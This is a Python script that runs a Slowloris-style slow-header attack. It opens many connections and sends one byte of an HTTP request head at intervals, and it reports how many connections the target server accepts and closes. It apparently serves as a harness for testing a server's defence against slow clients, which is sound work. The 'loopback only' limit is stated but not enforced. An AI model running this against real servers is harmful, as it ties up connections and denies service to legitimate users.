#!/usr/bin/env python3
"""slowloris.py HOST PORT SRC N EVERY SECONDS: N connections from source
address SRC, each sending one byte of a request head every EVERY seconds,
for at most SECONDS. Prints "accepted A" once the connections are made (A:
those the server did not close at once), then "closed C after S" each time
the server closes some, and "done open O closed C" at the end. Stops early
when every connection is closed. Loopback only."""
import socket
import sys
import time

host, port, src = sys.argv[1], int(sys.argv[2]), sys.argv[3]
n, every, seconds = int(sys.argv[4]), float(sys.argv[5]), float(sys.argv[6])
head = b"GET /fetch HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 100000
socks, closed = [], 0
for i in range(n):
    s = socket.socket()
    s.bind((src, 0))
    s.connect((host, port))
    socks.append([s, 0])
start = time.monotonic()


def gone(s):
    """The server closed s (EOF or reset); anything it sent is read."""
    s.setblocking(False)
    try:
        while True:
            b = s.recv(4096)
            if b == b"":
                return True
    except BlockingIOError:
        return False
    except OSError:
        return True


def poll(send=True):
    """Marks the connections the server closed; sends a byte on the rest."""
    global closed
    for c in socks:
        if c[0] is None:
            continue
        g = gone(c[0])
        if not g and send:
            try:
                c[0].send(head[c[1]:c[1] + 1])
                c[1] += 1
            except OSError:
                g = True
        if g:
            c[0].close()
            c[0] = None
            closed += 1


# accepted: the count once it holds still for 0.6 s (the server may take a
# moment to accept and refuse them all)
last, still = -1, 0
while still < 3 and time.monotonic() - start < 10:
    time.sleep(0.2)
    poll()
    still = still + 1 if closed == last else 0
    last = closed
print("accepted %d" % (n - closed), flush=True)
while closed < n and time.monotonic() - start < seconds:
    before = closed
    time.sleep(every)
    poll()
    if closed != before:
        print("closed %d after %.1f" % (closed, time.monotonic() - start),
              flush=True)
print("done open %d closed %d" % (n - closed, closed), flush=True)
